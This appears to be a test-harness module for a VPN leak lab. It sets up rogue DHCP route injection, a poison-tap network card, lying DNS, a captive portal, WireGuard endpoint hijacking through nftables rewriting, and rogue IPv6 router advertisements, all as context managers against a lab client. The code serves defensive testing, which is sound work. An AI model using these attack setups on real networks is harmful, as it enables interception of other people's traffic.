"""What hostile networks do to the client, each as a context: the attack goes on inside the `with`.

The provider (`isp`) is the attacker: a rogue access point, or a machine on the LAN that answers first.
"""

import tempfile
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from socket import AF_INET, AF_INET6, SOCK_STREAM
from typing import Any

from lab.addresses import (
    CLIENT,
    ECHO_SERVER,
    PHYSICAL,
    ROUTER,
    STUN_PORT,
    STUN_SERVER,
    VPN,
    VPN_PORT,
    VPN_SERVER,
)
from lab.deadline import until
from lab.dhcp import leased, serves
from lab.probe import ask
from lab.process import Process
from lab.server import Server
from lab.topology import Lab
from lab.wireguard import wg

HOME = "home"
"""The provider's end of the client's cable."""
DONGLE, CABLE, PLUG = "dongle0", "cable9", "plug"
"""A second network card of the client, its cable, and the attacker's end of that."""
# wireguard-go takes 15 s until it sends from another address.
POOL = f"--dhcp-range={CLIENT[AF_INET]},{CLIENT[AF_INET]},255.255.255.0,1h"
"""The address that the client had."""
OTHER_POOL = "--dhcp-range=192.168.1.100,192.168.1.120,255.255.255.0,1h"
STUN_NETWORK: dict[int, str] = {AF_INET: "198.51.100.0/24", AF_INET6: "2001:db8:3::/64"}
"""The Internet's network that the STUN server is in."""

ECHO_PORT = 50001

Running = AbstractContextManager[None]


def option(number: int, *values: str) -> str:
    """A DHCP option, as dnsmasq takes it."""
    return f"--dhcp-option={number},{','.join(values)}"


def routes(*networks: str, router: str = ROUTER[AF_INET]) -> str:
    """Option 121 with these networks and the default route, since option 3 does not count with it (RFC 3442)."""
    return option(121, *(part for network in (*networks, "0.0.0.0/0") for part in (network, router)))


@contextmanager
def unconfigured(lab: Lab, family: int) -> Iterator[None]:
    """The client's card has no address. Afterwards it has the lab's again, and nothing else."""
    own = f"{CLIENT[family]}/{24 if family == AF_INET else 64} dev {PHYSICAL}"
    lab.client.ip(f"addr del {own}\nroute flush dev {PHYSICAL} scope global", family)
    try:
        yield
    finally:
        if family == AF_INET6:
            lab.client.ip(f"addr flush dev {PHYSICAL} scope global", family)
            own += " nodad"
        lab.client.ip(f"addr add {own}\nroute add default via {ROUTER[family]} dev {PHYSICAL}", family)


# DHCP


@contextmanager
def lease(lab: Lab, *options: str) -> Iterator[None]:
    """The client gets its address and routes from the network's DHCP server."""
    with serves(lab.isp, HOME, "--port=0", *options), leased(lab.client, PHYSICAL):
        yield


@contextmanager
def local_network(lab: Lab) -> Iterator[None]:
    """The client's network covers the STUN server's public address.

    The VPN connects there. The attacker answers ARP for all of it and passes packets on, so that the server answers
    and sees the real address.
    """
    lab.isp.ip(f"addr add 198.51.100.254/24 dev {HOME} noprefixroute\nroute add 198.51.100.77 dev {HOME}")
    lab.isp.sysctl(f"ipv4/conf/{HOME}/proxy_arp", 1)
    pool = "--dhcp-range=198.51.100.77,198.51.100.77,255.255.255.0,1h"
    try:
        with lease(lab, pool, option(3, "198.51.100.254")):
            lab.vpn.up(ipv6=True)
            yield
    finally:
        lab.isp.sysctl(f"ipv4/conf/{HOME}/proxy_arp", 0)
        lab.isp.ip(f"addr del 198.51.100.254/24 dev {HOME}\nroute del 198.51.100.77 dev {HOME}")


@contextmanager
def replugged(lab: Lab) -> Iterator[None]:
    """The cable was pulled, at which NetworkManager disconnects the VPN, and is in another network now."""
    lab.client.ip(f"link set {PHYSICAL} down")
    lab.vpn.down()
    lab.client.ip(f"link set {PHYSICAL} up")
    try:
        with lease(lab, OTHER_POOL):
            yield
    finally:
        # The kernel forgets these with the cable.
        lab.client.ip(f"""
            addr add {CLIENT[AF_INET6]}/64 dev {PHYSICAL} nodad
            route add ::/0 via {ROUTER[AF_INET6]}
        """)


# A second network card


@contextmanager
def dongle(lab: Lab) -> Iterator[None]:
    """A network card with a machine behind it that routes to the Internet, not plugged in yet."""
    lab.isp.ip(f"""
        link add {PLUG} type veth peer name {CABLE}
        addr add 10.66.0.1/1 dev {PLUG} noprefixroute
        link set {PLUG} up
        route add 10.66.0.0/24 dev {PLUG}
    """)
    try:
        yield
    finally:
        lab.isp.ip(f"link del {PLUG}")


@contextmanager
def plugged_in(lab: Lab, *options: str, mask: str = "255.255.255.0", metric: int = 10) -> Iterator[None]:
    """The client has the card, and a lease from what is behind it.

    It is a macvlan, since a veth could be a container's. Hardware is neither.
    """
    lab.isp.ip(f"link set {CABLE} netns client")
    lab.client.ip(f"""
        link set {CABLE} up
        link add {DONGLE} link {CABLE} type macvlan mode passthru
    """)
    pool = f"--dhcp-range=10.66.0.2,10.66.0.9,{mask},1h"
    with serves(lab.isp, PLUG, "--port=0", pool, *options), leased(lab.client, DONGLE, f"--metric={metric}"):
        yield


def poison_tap(lab: Lab) -> Running:
    """All of the Internet's IPv4 addresses are the card's own network, in halves of the default route."""
    return plugged_in(lab, routes("128.0.0.0/1", router="10.66.0.1"), mask="128.0.0.0", metric=2000)


# Names


@contextmanager
def lying_names(lab: Lab, name: str, address: str) -> Iterator[None]:
    """The network's DNS server says that a name, "#" for every name, has this address."""
    with serves(lab.isp, HOME, f"--address=/{name}/{address}"):
        yield


def with_names(*command: str) -> tuple[str, ...]:
    """The command line that asks the network's DNS server for names; the machine's file stays as it is."""
    script = f"""
        file=$(mktemp)
        echo "nameserver {ROUTER[AF_INET]}" >"$file"
        mount --bind "$file" /etc/resolv.conf
        rm "$file"
        exec "$@"
    """
    return ("unshare", "--mount", "sh", "-ec", script, "sh", *command)


class Portal(Server):
    """An HTTP server's only page."""

    page = b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nLog in."

    def __init__(self, lab: Lab) -> None:
        super().__init__(lab.isp, [(SOCK_STREAM, ROUTER[AF_INET], 80)])

    def reply(self, payload: bytes, sender: tuple[Any, ...]) -> bytes:
        return self.page


@contextmanager
def captive_portal(lab: Lab) -> Iterator[None]:
    """The VPN is down for the login, since nothing passes before it. The login is done, the VPN is not up yet."""
    lab.vpn.down()
    with (
        lying_names(lab, "#", ROUTER[AF_INET]),
        Portal(lab),
        lab.isp.table(
            "inet lab_portal", "chain forward { type filter hook forward priority 0; policy drop; }"
        ),
    ):
        page = lab.client.printed(*with_names("curl", "--silent", "http://connectivity.example/"))
        assert page == "Log in.", page
    yield


# The VPN's server


@contextmanager
def relayed(lab: Lab, port: int) -> Iterator[None]:
    """What the client sends to the VPN's port at the STUN server's address is passed on to the VPN's server."""
    with lab.isp.table(
        "ip lab_relay",
        f"""
        chain prerouting {{
            type nat hook prerouting priority dstnat
            iifname "{HOME}" ip daddr {STUN_SERVER[AF_INET]} udp dport {port} dnat to {VPN_SERVER[AF_INET]}
        }}
    """,
    ):
        yield


@contextmanager
def endpoint_moved(lab: Lab) -> Iterator[None]:
    """WireGuard's server seems to be at the STUN server's address and port, and WireGuard follows it there.

    The attacker changes the addresses of WireGuard's packets (they begin with 1 to 4 and three zeros), which are not
    authenticated. A route for the address comes by DHCP.
    """
    server, fake = VPN_SERVER[AF_INET], STUN_SERVER[AF_INET]
    to_fake = f"ip daddr {fake} udp dport {STUN_PORT}"
    chains = f"""
        chain to_server {{
            type filter hook prerouting priority -310
            iifname "{HOME}" {to_fake} @th,72,24 0 ip daddr set {server} udp dport set {VPN_PORT}
        }}
        chain to_client {{
            type filter hook postrouting priority 310
            oifname "{HOME}" ip saddr {server} udp sport {VPN_PORT} ip saddr set {fake} udp sport set {STUN_PORT}
        }}
    """
    with lab.isp.table("ip lab_relay", chains):

        def followed() -> bool:
            ask(lab.client, (ECHO_SERVER[AF_INET], ECHO_PORT), b"whatever comes back", seconds=0.1)
            return f"{fake}:{STUN_PORT}" in wg("show", VPN, "endpoints")

        until(followed, 10, "WireGuard to follow its server")
        with unconfigured(lab, AF_INET), lease(lab, POOL, routes(f"{fake}/32")):
            yield


# IPv6


@contextmanager
def advertised(lab: Lab, route: str, options: str) -> Iterator[None]:
    """radvd advertises itself to the client, until it has the route."""
    for name, value in (("accept_ra", 2), ("accept_ra_rt_info_max_plen", 64)):
        lab.client.sysctl(f"ipv6/conf/{PHYSICAL}/{name}", value)
    with tempfile.TemporaryDirectory(prefix="radvd-") as folder:
        file = Path(folder, "radvd.conf")
        file.write_text(
            f"interface {HOME} {{ AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; {options} }};\n"
        )
        command = f"radvd --nodaemon --config {file} --pidfile {folder}/pid --logmethod stderr"
        process = Process(lab.isp, *command.split())
        try:
            until(lambda: route in _routes(lab), 10, f"a route to {route} from radvd")
            yield
        finally:
            process.stop()
            lab.client.sysctl(f"ipv6/conf/{PHYSICAL}/accept_ra", 0)
            lab.client.ip(
                f"route flush dev {PHYSICAL} proto ra\nroute flush {STUN_NETWORK[AF_INET6]}", AF_INET6
            )


def _routes(lab: Lab) -> str:
    # The lab's own have no lifetime.
    lines = lab.client.printed("ip", "-6", "route", "show", "dev", PHYSICAL).splitlines()
    return "\n".join(line for line in lines if "expires" in line)


def router_and_address(lab: Lab) -> Running:
    """An address by SLAAC (RFC 4862), a router, and a DNS server (RFC 8106)."""
    return advertised(lab, "default", f"prefix 2001:db8:1::/64 {{ }}; RDNSS {ROUTER[AF_INET6]} {{ }};")


def route_information(lab: Lab) -> Running:
    """A route for the STUN server's network alone (RFC 4191 §2.3)."""
    network = STUN_NETWORK[AF_INET6]
    return advertised(lab, network, f"AdvDefaultLifetime 0; route {network} {{ AdvRoutePreference high; }};")


@contextmanager
def local_prefix(lab: Lab) -> Iterator[None]:
    """The STUN server's network is said to be on the client's link (RFC 4861 §4.6.2, the flag L)."""
    network, server = STUN_NETWORK[AF_INET6], STUN_SERVER[AF_INET6]
    lab.isp.sysctl(f"ipv6/conf/{HOME}/proxy_ndp", 1)
    lab.isp.ip(f"neigh add proxy {server} dev {HOME}")
    try:
        with advertised(lab, network, f"AdvDefaultLifetime 0; prefix {network} {{ AdvAutonomous off; }};"):
            yield
    finally:
        lab.isp.ip(f"neigh del proxy {server} dev {HOME}")
        lab.isp.sysctl(f"ipv6/conf/{HOME}/proxy_ndp", 0)
